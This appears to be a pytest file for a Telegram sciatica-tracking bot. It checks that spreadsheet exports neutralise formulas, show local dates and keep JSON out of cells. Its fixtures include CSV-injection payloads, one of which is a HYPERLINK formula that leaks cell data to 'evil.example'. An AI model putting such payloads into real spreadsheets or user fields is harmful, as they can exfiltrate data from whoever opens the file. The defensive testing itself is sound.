"""Exports people can open: the client's spreadsheets and the therapist's zip, read back as a
spreadsheet program would — local dates, no JSON in cells, no live formulas from user text."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

from bot.db.engine import Database
from bot.db.models import Alert, OutcomeMeasure, PainEntry
from tests.conftest import FrozenClock
from tests.export_files import sheet_rows, zip_sheets
from tests.handlers.client_seed import add_client, add_exercise_slots
from tests.support.botapi_double import BotApiDouble, RecordedCall
from tests.support.harness import RunningApplication
from tests.support.telegram_payloads import TgUser

CLIENT = TgUser(id=616_001, first_name="Eve")
MONDAY = date(2026, 6, 1)
# Text a spreadsheet would run as a formula (OWASP "CSV injection"), one per trigger character.
HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+1 better today",
    "-2 after the walk",
    "@SUM(1+1)",
    "\tindented",
    "\rcarriage return first",
]
HOSTILE_NAME = "=Eve @Hacker"
SUNDAY_EVENING = datetime(2026, 6, 7, 18, 30, tzinfo=UTC)  # 19:30 London


async def seed(db: Database, name: str = "Eve Example") -> int:
    client_id = await add_client(db, CLIENT, name=name)
    async with db.sessions.begin() as session:
        for offset, note in enumerate(HOSTILE_NOTES):
            day = MONDAY + timedelta(days=offset)
            written = datetime.combine(day, datetime.min.time(), tzinfo=UTC) + timedelta(hours=19)
            session.add(
                PainEntry(
                    client_id=client_id,
                    day=day,
                    leg=4,
                    back=2,
                    note=note,
                    created_at=written,
                    updated_at=written,
                )
            )
        session.add(
            OutcomeMeasure(
                client_id=client_id,
                instrument="SBI",
                period_start=MONDAY,
                items={"leg_pain": 4, "numbness_tingling": 3, "weakness": 1, "sitting_pain": 5},
                total=13,
                recorded_at=SUNDAY_EVENING,
            )
        )
        session.add(
            Alert(
                client_id=client_id,
                kind="worsening_leg",
                severity=2,
                episode_key="leg",
                evidence={"baseline": 3.0, "rolling_mean": 6.333333, "days": [1, 2]},
                created_at=datetime(2026, 6, 5, 18, 0, 12, 345678, tzinfo=UTC),
                acknowledged_at=datetime(2026, 6, 6, 7, 45, 1, 999, tzinfo=UTC),
            )
        )
    await add_exercise_slots(db, client_id, [(datetime(2026, 6, 2, 7, 0, tzinfo=UTC), None)])
    return client_id


async def documents_after(
    bot: RunningApplication, botapi: BotApiDouble, user: TgUser, *command: str
) -> list[RecordedCall]:
    mark = botapi.mark()
    botapi.send_command(user, *command)
    await bot.settle()
    return botapi.calls("sendDocument", chat_id=user.id, after=mark)


def no_formula_or_json(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert not value.startswith(("{", "[")), value


async def test_the_clients_export_is_three_readable_sheets_and_neutralises_formulas(
    bot: RunningApplication,
    botapi: BotApiDouble,
    db: Database,
    clock: FrozenClock,
) -> None:
    await seed(db)
    clock.set(datetime(2026, 6, 8, 9, 0, tzinfo=UTC))

    documents = await documents_after(bot, botapi, CLIENT, "export")

    names = [d.files["document"].filename for d in documents]  # type: ignore[attr-defined]
    assert names == [
        "my-check-ins.csv",
        "my-exercises.csv",
        "my-weekly-questionnaires.csv",
        "my-sciatica-data.json",
    ]
    check_ins = sheet_rows(documents[0].files["document"])
    no_formula_or_json(check_ins)
    assert [row["Note"] for row in check_ins] == ["'" + note for note in HOSTILE_NOTES]
    assert [row["Date"] for row in check_ins][:2] == ["2026-06-01", "2026-06-02"]
    assert {row["Filled in late"] for row in check_ins} == {"no"}
    [reminder] = sheet_rows(documents[1].files["document"])
    assert reminder == {
        "Date": "2026-06-02",
        "Time": "08:00",
        "Answer": "no answer",
        "Reason skipped": "",
    }
    [questionnaire] = sheet_rows(documents[2].files["document"])
    assert questionnaire["Filled in on"] == "2026-06-07"  # the Sunday, not the week's Monday
    assert questionnaire["Week starting"] == "2026-06-01"
    assert questionnaire["Total (0-24)"] == "13"


async def test_the_therapists_export_is_a_zip_of_sheets_with_local_dates_and_no_json(
    bot: RunningApplication,
    botapi: BotApiDouble,
    db: Database,
    therapist: TgUser,
    clock: FrozenClock,
) -> None:
    await seed(db, name=HOSTILE_NAME)
    clock.set(datetime(2026, 6, 8, 9, 0, tzinfo=UTC))

    [document] = await documents_after(bot, botapi, therapist, "export")

    upload = document.files["document"]
    assert upload.filename == "clients-2026-06-08.zip"  # type: ignore[attr-defined]
    sheets = zip_sheets(upload)
    assert sorted(sheets) == [
        "adherence-by-week.csv",
        "alerts.csv",
        "check-ins.csv",
        "exercise-answers.csv",
        "exercise-responses.csv",
        "questionnaires.csv",
    ]
    for rows in sheets.values():
        no_formula_or_json(rows)
    assert {row["Client"] for row in sheets["check-ins.csv"]} == {"'" + HOSTILE_NAME}
    assert [row["Note"] for row in sheets["check-ins.csv"]] == [
        "'" + note for note in HOSTILE_NOTES
    ]
    [questionnaire] = sheets["questionnaires.csv"]
    assert (questionnaire["Filled in on"], questionnaire["Week starting"]) == (
        "2026-06-07",
        "2026-06-01",
    )
    assert questionnaire["Numbness or tingling (0-6)"] == "3"
    [alert] = sheets["alerts.csv"]
    assert alert["Raised (Europe/London)"] == "2026-06-05 19:00"
    assert alert["Acknowledged (Europe/London)"] == "2026-06-06 08:45"
    assert alert["Details"] == "baseline: 3.0; days: 1, 2; rolling mean: 6.3"
    [slot] = sheets["exercise-answers.csv"]
    assert (slot["Date"], slot["Time"], slot["Answer"]) == ("2026-06-02", "08:00", "no answer")


async def test_one_clients_export_is_named_after_them_in_safe_characters(
    bot: RunningApplication,
    botapi: BotApiDouble,
    db: Database,
    therapist: TgUser,
) -> None:
    await seed(db, name="Zoë O'Brien-Smith / 2")
    botapi.send_command(therapist, "client", "Zoë")
    await bot.settle()
    card = botapi.calls("sendMessage", chat_id=therapist.id)[-1]
    mark = botapi.mark()
    botapi.press_button(therapist, card, "Export")
    await bot.settle()

    [document] = botapi.calls("sendDocument", chat_id=therapist.id, after=mark)
    upload = next(iter(document.files.values()))
    assert upload.filename == "Zoe-O-Brien-Smith-2-2026-06-01.zip"  # type: ignore[attr-defined]
    assert {row["Client"] for row in zip_sheets(upload)["check-ins.csv"]} == {
        "Zoë O'Brien-Smith / 2"
    }
